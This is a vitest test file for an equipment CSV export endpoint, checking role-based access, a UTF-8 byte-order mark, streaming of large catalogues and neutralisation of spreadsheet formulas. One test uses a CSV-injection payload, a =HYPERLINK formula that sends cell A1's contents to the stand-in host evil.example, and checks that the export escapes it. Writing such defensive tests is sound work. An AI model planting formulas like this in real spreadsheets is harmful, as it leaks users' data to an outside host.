import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient } from '../../test/api-client';
import { startTestServer, type TestServer } from '../../test/test-server';
import { createEquipment, equipmentStation } from '../../test/equipment-factory';
import { EQUIPMENT_EXPORT_COLUMNS } from './equipment-export';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const EXPORT = '/api/equipment/export.csv';

/** fetch's text() drops the byte-order mark (checked on the bytes in the first test). */
function rowsOf(csv: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
}

describe('GET /api/equipment/export.csv', () => {
  it('owner, admin and technical get their own company’s items only; editor and cameraman 403', async () => {
    const s = await equipmentStation(server);
    const other = await equipmentStation(server);
    const mine = await createEquipment(s.owner, { name: 'Sony FX6', code: 'CAM-OWN' });
    await createEquipment(other.owner, { name: 'Their camera', code: 'CAM-THEIRS' });
    for (const client of [s.owner, s.admin, s.technical]) {
      const res = await client.get<string>(EXPORT);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toMatch(
        /^attachment; filename="equipment-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const rows = rowsOf(res.body);
      expect(rows.map((r) => r.code)).toEqual(['CAM-OWN']);
      expect(rows[0]).toMatchObject({
        name: 'Sony FX6',
        id: String(mine.id),
        quantity: '1',
        currentStock: '1',
        status: 'available',
      });
    }
    for (const client of [s.editor, s.cameraman]) {
      const res = await client.get<{ message: string }>(EXPORT);
      expect(res.status).toBe(403);
      expect(res.body.message).toBeTruthy();
    }
    expect((await new ApiClient(server.url).get(EXPORT)).status).toBe(401);
    // The UTF-8 byte-order mark Excel needs to read non-Latin names.
    const raw = await fetch(server.url + EXPORT, { headers: { authorization: `Bearer ${s.owner.token}` } });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('neutralises cells a spreadsheet would run (=HYPERLINK, +, -, @) and keeps Thaana text', async () => {
    const s = await equipmentStation(server);
    await createEquipment(s.owner, {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      code: '@CAM',
      location: '+Store',
      description: '-1+2',
      category: 'ކެމެރާ',
    });
    const res = await s.owner.get<string>(EXPORT);
    const [row] = rowsOf(res.body);
    expect(row).toMatchObject({
      name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      code: "'@CAM",
      location: "'+Store",
      description: "'-1+2",
      category: 'ކެމެރާ',
    });
  });

  it('streams a catalogue larger than one page, every item once, in id order, with the header once', async () => {
    const s = await equipmentStation(server);
    const csvData = Array.from({ length: 1203 }, (_, i) => ({
      name: `Item ${i}`,
      code: `BIG-${String(i).padStart(5, '0')}`,
      location: 'Store',
    }));
    const bulk = await s.owner.post<{ results: { success: number } }>('/api/equipment/bulk', { csvData });
    expect(bulk.body.results.success).toBe(1203);
    const res = await s.technical.get<string>(EXPORT);
    // One header line, no blank line anywhere, every row complete, a final line break.
    const lines = res.body.split('\r\n');
    expect(lines).toHaveLength(1 + 1203 + 1);
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).every((line) => line !== '')).toBe(true);
    const parsed = Papa.parse<string[]>(res.body, { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual([...EQUIPMENT_EXPORT_COLUMNS]);
    expect(parsed.every((cells) => cells.length === EQUIPMENT_EXPORT_COLUMNS.length)).toBe(true);
    const rows = rowsOf(res.body);
    expect(rows).toHaveLength(1203);
    expect(new Set(rows.map((r) => r.code)).size).toBe(1203);
    const ids = rows.map((r) => Number(r.id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
  });
});
